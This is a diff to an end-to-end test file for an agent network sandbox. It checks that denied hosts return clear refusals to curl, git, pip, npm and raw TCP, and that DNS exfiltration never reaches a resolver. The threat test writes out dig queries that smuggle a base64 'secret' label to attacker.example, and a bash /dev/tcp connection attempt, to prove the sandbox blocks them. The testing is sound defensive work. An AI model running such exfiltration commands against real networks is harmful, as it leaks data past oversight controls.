@@ -371,12 +371,50 @@ TEST_F(SandboxE2e, AllowedHostWorksOverHttpAndHttpsWithNoProxyVariables) {
   EXPECT_EQ(audit("connection_closed").size(), 1u);  // the TLS tunnel
 }
 
-TEST_F(SandboxE2e, DeniedNameIsNotResolvedAndLoggedOnce) {
-  const auto r = run_in("deny", "web", "curl -sS -m 10 http://blocked.test/");
-  EXPECT_EQ(r.exit_code, 6) << r.err;  // could not resolve host
-  const auto denials = audit("SANDBOX_NETWORK_DENIED", "no_matching_rule");
+// Issue 37: a refused name resolves to the DNS sink, so each tool's own connection is refused
+// in its own protocol and the agent reads why instead of "could not resolve host": curl
+// prints the 403's body over HTTP and over HTTPS (the sandbox trusts sandgate's CA), git its
+// ERR line, pip (-vv) and npm the 403 with its reason phrase; other TCP is reset. Nothing reaches
+// the name's resolver or address, and the DNS listener's lines are the only ones.
+TEST_F(SandboxE2e, DeniedNameReachesTheToolAsItsOwnRefusalAndIsLoggedOnce) {
+  const std::string work = world->dir.file("refused-work");
+  fs::create_directories(work);
+  const auto r = run_in(
+      "deny", "web",
+      "cd " + work + " && export HOME=" + work +
+          "; curl -sS -m 10 http://blocked.test/; echo http=$?; "
+          "curl -sS -m 10 https://blocked.test/; echo https=$?; "
+          "git ls-remote https://blocked.test/acme/widget.git 2>&1; echo git=$?; "
+          // pip says why an index refused it only with -vv (else: "No matching distribution").
+          "/usr/bin/python3 -m pip download -vv --no-deps --no-cache-dir -d . --retries 0 "
+          "--index-url https://blocked.test/simple/ sandgate-none 2>&1 | grep 'Could not fetch'; "
+          "timeout 40 npm view --fetch-retries=0 --registry http://blocked.test/ "
+          "sandgate-e2e-pkg version 2>&1; echo npm=$?; "
+          "timeout 5 bash -c 'exec 3<>/dev/tcp/blocked.test/22 && cat <&3'; echo tcp=$?");
+  const std::string& out = r.out;
+  EXPECT_NE(out.find(R"({"code":"SANDBOX_NETWORK_DENIED")"), std::string::npos) << out;
+  EXPECT_NE(out.find(R"("host":"blocked.test","port":80,)"), std::string::npos) << out;
+  EXPECT_NE(out.find(R"("host":"blocked.test","port":443,)"), std::string::npos) << out;
+  EXPECT_NE(out.find("\"reason\":\"no_matching_rule\""), std::string::npos) << out;
+  EXPECT_NE(out.find("http=0\n"), std::string::npos) << out;
+  EXPECT_NE(out.find("https=0\n"), std::string::npos) << out << r.err;
+  EXPECT_NE(out.find("remote error: sandgate: SANDBOX_NETWORK_DENIED: blocked.test is refused"),
+            std::string::npos)
+      << out;
+  EXPECT_NE(out.find("403 Client Error: SANDBOX_NETWORK_DENIED blocked.test:443"),
+            std::string::npos)
+      << out;
+  EXPECT_NE(out.find("403 SANDBOX_NETWORK_DENIED blocked.test:80"), std::string::npos) << out;
+  EXPECT_NE(out.find("tcp=1\n"), std::string::npos) << out;  // reset, not a hang (124)
+  EXPECT_EQ(out.find("Could not resolve"), std::string::npos) << out;
+
+  const auto denials = audit("SANDBOX_NETWORK_DENIED");
   ASSERT_GE(denials.size(), 1u);
-  for (const auto& d : denials) EXPECT_EQ(domain_of(d), "blocked.test");
+  for (const auto& d : denials) {
+    EXPECT_EQ(domain_of(d), "blocked.test");
+    EXPECT_EQ(d.at("network").as_object().at("protocol").as_string(), "dns")
+        << boost::json::serialize(d);
+  }
   EXPECT_EQ(dns_queries().find("blocked.test"), std::string::npos) << dns_queries();
   EXPECT_EQ(requests().find(kBlocked), std::string::npos) << requests();
 }
@@ -565,9 +603,11 @@ TEST_F(SandboxE2e, Threat10DnsExfiltrationNeverReachesAResolver) {
                         "dig +tries=1 +time=3 @203.0.113.53 c2VjcmV0.attacker.example A; "
                         "dig +tries=1 +time=3 +tcp @1.1.1.1 c2VjcmV0.attacker.example TXT; "
                         "dig +tries=1 +time=3 @203.0.113.53 origin.test TXT");
+  // The A query gets the sink's address (the tool's connection is refused there), the TXT
+  // queries REFUSED; each with the EDE, none sent upstream.
   EXPECT_NE(r.out.find("status: REFUSED"), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("EDE: 15 (Blocked): (SANDBOX_NETWORK_DENIED"), std::string::npos) << r.out;
-  EXPECT_EQ(r.out.find("status: NOERROR"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("A\t192.0.2.254"), std::string::npos) << r.out;
   std::this_thread::sleep_for(300ms);
   EXPECT_EQ(dns_queries().find("attacker"), std::string::npos) << dns_queries();
   EXPECT_EQ(dns_queries().find("TXT"), std::string::npos) << dns_queries();
